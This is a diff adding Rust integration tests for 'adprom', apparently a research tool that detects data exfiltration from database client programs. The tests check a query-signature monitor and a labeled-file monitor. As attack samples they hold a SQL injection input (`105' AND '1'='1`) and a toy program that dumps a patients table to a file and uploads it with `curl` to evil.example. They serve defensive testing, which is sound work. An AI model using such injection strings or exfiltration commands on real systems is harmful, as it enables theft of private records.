@@ -1,0 +1,136 @@
+//! Integration tests for the §VII mitigation monitors: query-signature
+//! profiling (defeats selectivity mimicry) and labeled-file tracking
+//! (defeats file-then-network exfiltration).
+
+use adprom::analysis::analyze;
+use adprom::client::ClientSession;
+use adprom::core::{
+    build_profile, ConstructorConfig, DetectionEngine, ExtensionKind, FileLabelMonitor, Flag,
+    QuerySignatureMonitor,
+};
+use adprom::lang::parse_program;
+use adprom::trace::{run_program, ExecConfig, TraceCollector};
+use adprom::workloads::{banking, TestCase, Workload};
+
+fn extended_config() -> ExecConfig {
+    ExecConfig {
+        extended_events: true,
+        ..ExecConfig::default()
+    }
+}
+
+/// Runs a case with extended events enabled.
+fn run_extended(workload: &Workload, case: &TestCase, labels: &std::collections::HashMap<adprom::lang::CallSiteId, String>) -> Vec<adprom::trace::CallEvent> {
+    let mut session = ClientSession::connect((workload.make_db)());
+    let mut collector = TraceCollector::new();
+    run_program(
+        &workload.program,
+        &mut session,
+        &case.inputs,
+        labels,
+        &mut collector,
+        &extended_config(),
+    )
+    .expect("case runs");
+    collector.into_events()
+}
+
+#[test]
+fn signature_monitor_catches_selectivity_mimicry() {
+    // The evasion from §VII: the attacker rewrites the query so that it
+    // returns the *same number of rows* as a benign lookup — the call
+    // sequence is unchanged, so the base system sees nothing.
+    let workload = banking::workload(40, 77);
+    let analysis = analyze(&workload.program);
+
+    // Extended training traces.
+    let traces: Vec<_> = workload
+        .test_cases
+        .iter()
+        .map(|c| run_extended(&workload, c, &analysis.site_labels))
+        .collect();
+    let mut config = ConstructorConfig::default();
+    config.train.max_iterations = 8;
+    let (profile, _) = build_profile("App_b", &analysis, &traces, &config);
+    let engine = DetectionEngine::new(&profile);
+    let signatures = QuerySignatureMonitor::learn(&traces);
+    assert!(signatures.len() >= 4, "training sees several query shapes");
+
+    // Mimicry attack: `id='105' AND '1'='1'` returns exactly one row, like
+    // the benign lookup — same selectivity, same call sequence.
+    let mimic = TestCase::new(
+        "mimicry",
+        vec!["1".into(), "105' AND '1'='1".into(), "0".into()],
+    );
+    let trace = run_extended(&workload, &mimic, &analysis.site_labels);
+
+    // Base system: blind to it (this is the paper's stated limitation).
+    assert_eq!(
+        engine.verdict(&trace),
+        Flag::Normal,
+        "the base detector cannot see same-selectivity query changes"
+    );
+    // Extension: the signature differs from everything in training.
+    let alerts = signatures.scan(&trace);
+    assert!(
+        alerts
+            .iter()
+            .any(|a| a.kind == ExtensionKind::UnknownQuerySignature),
+        "the signature monitor must flag the rewritten query"
+    );
+    // And benign traffic stays quiet.
+    let benign = TestCase::new("benign", vec!["1".into(), "105".into(), "0".into()]);
+    let benign_trace = run_extended(&workload, &benign, &analysis.site_labels);
+    assert!(signatures.scan(&benign_trace).is_empty());
+}
+
+#[test]
+fn file_label_monitor_catches_file_then_network_exfiltration() {
+    // §VII: "storing the TD to a file and then send the file over a
+    // network" — the file write itself is legitimate-looking; the tell is
+    // the follow-up action on the labeled file.
+    let source = r#"
+        fn main() {
+            let r = PQexec(conn, "SELECT * FROM patients");
+            let v = PQgetvalue(r, 0, 0);
+            let f = fopen("dump.txt", "w");
+            fprintf(f, "%s", v);
+            fclose(f);
+            system("curl -F data=@dump.txt http://evil.example/up");
+        }
+    "#;
+    let prog = parse_program(source).unwrap();
+    let analysis = analyze(&prog);
+
+    let mut db = adprom::db::Database::new("h");
+    db.execute("CREATE TABLE patients (id INT, name TEXT)").unwrap();
+    db.execute("INSERT INTO patients VALUES (1, 'ada')").unwrap();
+    let mut session = ClientSession::connect(db);
+    let mut collector = TraceCollector::new();
+    run_program(
+        &prog,
+        &mut session,
+        &[],
+        &analysis.site_labels,
+        &mut collector,
+        &extended_config(),
+    )
+    .unwrap();
+
+    let mut monitor = FileLabelMonitor::new();
+    let raised = monitor.scan(collector.events());
+    assert_eq!(raised, 1, "the curl-out of the labeled dump must be flagged");
+    assert_eq!(monitor.alerts()[0].kind, ExtensionKind::LabeledFileAction);
+    assert!(monitor.alerts()[0].subject.contains("dump.txt"));
+}
+
+#[test]
+fn extended_events_off_by_default_keeps_collector_lean() {
+    let workload = banking::workload(3, 5);
+    let analysis = analyze(&workload.program);
+    let trace = workload.run_case(&workload.test_cases[0], &analysis.site_labels);
+    assert!(
+        trace.iter().all(|e| e.detail.is_none()),
+        "the baseline collector records names and callers only"
+    );
+}
